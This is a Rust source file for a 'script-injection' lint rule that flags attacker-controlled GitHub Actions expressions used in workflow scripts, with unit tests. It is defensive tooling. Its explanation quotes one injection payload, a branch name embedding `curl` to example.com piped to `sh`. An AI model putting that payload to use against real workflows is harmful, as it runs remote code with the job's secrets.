//! `script-injection`: text of outsiders that becomes code.

use sdlc_sdk::{Confidence, Severity};

use crate::{
    rule::{Findings, Rule},
    taint,
    untrusted::Source,
    workflow::{Document, Kind, Step},
    yaml::Node,
};

pub(crate) const RULE: Rule = Rule {
    name: "script-injection",
    severity: Severity::Error,
    confidence: Confidence::High,
    summary: "text that others choose is put into a script",
    explanation: "\
## What it does
Finds expressions in `run:`, in the script of `actions/github-script` and in scripts of some other actions, whose value
others choose: titles, bodies, comments, branch names of pull requests, commit messages, file names. An error where
anybody can; a warning for inputs of an action and for the outputs of actions that list file names; a note for branch
names and inputs of those who may write to the repository.

## Why is this bad?
GitHub replaces the expression before the shell reads the script, so the text is code: a pull request from a branch
named `a$(curl${IFS}example.com|sh)` runs what it likes, with the job's token and secrets.

## Example
```yaml
- run: echo \"${{ github.event.issue.title }}\"
```

## How to fix
Hand the text over in the environment, where it stays text:
```yaml
- run: echo \"$TITLE\"
  env:
    TITLE: ${{ github.event.issue.title }}
```
",
    cwe: 94,
    score: 9.3,
    check,
};

/// Inputs of actions that are run as code.
const SCRIPTS: [(&str, &str); 6] = [
    ("actions/github-script", "script"),
    ("azure/cli", "inlinescript"),
    ("azure/powershell", "inlinescript"),
    ("appleboy/ssh-action", "script"),
    ("nick-fields/retry", "command"),
    ("nick-invision/retry", "command"),
];

fn check(document: &Document<'_>, findings: &mut Findings<'_>) {
    for step in document.steps() {
        for script in scripts(step) {
            check_script(document, step, script, findings);
        }
    }
}

fn scripts<'a>(step: Step<'a>) -> impl Iterator<Item = &'a Node> {
    let action = step.action();
    let inputs = SCRIPTS.iter().filter(move |(name, _)| action.as_deref() == Some(name));
    step.node.get("run").into_iter().chain(inputs.filter_map(move |(_, input)| step.with(input)))
}

fn check_script(document: &Document<'_>, step: Step<'_>, script: &Node, findings: &mut Findings<'_>) {
    for each in document.expressions(script) {
        let Some((source, path)) = taint::of(document, step, &each.expression) else { continue };
        let who = match source {
            Source::Outsider => "anybody can choose",
            Source::FileName => "who opens a pull request can choose",
            Source::Caller if document.kind == Kind::Action => "the caller chooses",
            Source::Caller => "who runs the workflow chooses",
        };
        let message = format!("`{path}`, which {who}, becomes part of the script; hint: hand it over in `env`");
        let finding = findings.add(each.range, message);
        match source {
            Source::Outsider => {}
            Source::FileName => (finding.severity, finding.confidence) = (Severity::Warning, Confidence::Medium),
            Source::Caller if document.kind == Kind::Action => {
                (finding.severity, finding.confidence) = (Severity::Warning, Confidence::Medium);
            }
            Source::Caller => (finding.severity, finding.confidence) = (Severity::Note, Confidence::Low),
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::testing::{found, found_in_action, on, steps};

    #[test]
    fn expressions_of_outsiders_in_scripts_are_found() {
        let text = on(
            "issues",
            "- run: |\n    echo ${{ github.event.issue.title }}\n    echo \"${{ github.head_ref || github.ref }}\"",
        );
        let expected = ["${{ github.event.issue.title }}", "${{ github.head_ref || github.ref }}"];
        assert_eq!(found("script-injection", &text), expected);
        let text = on(
            "issues",
            "- uses: actions/github-script@v7\n  with:\n    script: f(`${{ toJSON(github.event.issue) }}`)",
        );
        assert_eq!(found("script-injection", &text), ["${{ toJSON(github.event.issue) }}"]);
    }

    #[test]
    fn a_variable_is_no_cover_where_it_is_used_as_an_expression() {
        let text = on("issues", "- run: echo ${{ env.TITLE }}\n  env:\n    TITLE: ${{ github.event.issue.title }}");
        assert_eq!(found("script-injection", &text), ["${{ env.TITLE }}"]);
        let text = on("issues", "- run: echo \"$TITLE\"\n  env:\n    TITLE: ${{ github.event.issue.title }}");
        assert!(found("script-injection", &text).is_empty());
    }

    #[test]
    fn names_of_changed_files_are_found() {
        let text = steps(
            "- id: files\n  uses: tj-actions/changed-files@v46\n- run: lint ${{ steps.files.outputs.all_changed_files }}\n- run: echo ${{ steps.files.outputs.any_changed }}",
        );
        assert_eq!(found("script-injection", &text), ["${{ steps.files.outputs.all_changed_files }}"]);
    }

    #[test]
    fn inputs_are_found_unless_their_type_leaves_no_choice() {
        let action = "inputs:\n  a: {}\nruns:\n  using: composite\n  steps:\n    - run: echo ${{ inputs.a }}\n      shell: bash\n";
        assert_eq!(found_in_action("script-injection", action), ["${{ inputs.a }}"]);
        let text = "on:\n  workflow_dispatch:\n    inputs:\n      a: {type: boolean}\n      b: {type: string}\njobs:\n  j:\n    steps:\n      - run: echo ${{ inputs.a }} ${{ inputs.b }} ${{ github.event.inputs.a }}\n";
        assert_eq!(found("script-injection", text), ["${{ inputs.b }}"]);
    }

    #[test]
    fn what_nobody_chooses_is_not() {
        let text = steps(
            "- run: echo ${{ github.sha }} ${{ matrix.python }} ${{ github.event.issue.number }} ${{ secrets.A }}\n- if: github.head_ref == 'x'\n  name: ${{ github.event.issue.title }}\n  uses: a/b@v1\n  with:\n    title: ${{ github.event.issue.title }}\n- run: echo ${{ contains(github.event.issue.title, 'x') && 'a' || 'b' }}",
        );
        assert!(found("script-injection", &text).is_empty());
    }
}
